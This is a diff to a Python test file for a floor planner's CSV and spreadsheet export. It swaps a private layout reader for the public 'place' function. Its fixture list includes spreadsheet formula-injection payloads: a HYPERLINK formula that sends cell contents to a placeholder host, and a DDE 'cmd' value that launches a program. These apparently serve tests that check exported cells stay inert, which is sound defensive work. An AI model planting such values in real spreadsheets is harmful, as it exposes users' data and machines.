@@ -9,7 +9,8 @@ import pytest
 from shared.small_plans import make_plan
 
 from planner import report
-from planner.placement import _layout
+from planner.floor import Lengths, Slack
+from planner.placement import place
 from planner.spreadsheet import FORMULA, inert, original
 
 NAMES = ('=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1", "＝1+1", "plain", "'quoted'")
@@ -54,8 +55,9 @@ def test_no_cell_is_a_formula(plan, tmp_path, name):
 
 def test_a_schedule_is_read_back_as_a_layout(plan, tmp_path):
     path = report.write(plan, tmp_path, "csv")
-    given = _layout.read(path, plan.topology, plan.room)
-    assert given.slot.tolist() == plan.placement.slot_of[plan.placement.cabinet_of].tolist()
+    lengths = Lengths(plan.room, plan.catalog.cabinet, Slack())
+    again = place(plan.topology, plan.catalog, lengths, seed=1, algorithm="manual", layout=path, bounds=False)
+    assert again.slot_of[again.cabinet_of].tolist() == plan.placement.slot_of[plan.placement.cabinet_of].tolist()
 
 
 @pytest.mark.parametrize("text", [*NAMES, "", "'", "''", "''=", "=", "-5", "-5x", "−1"])
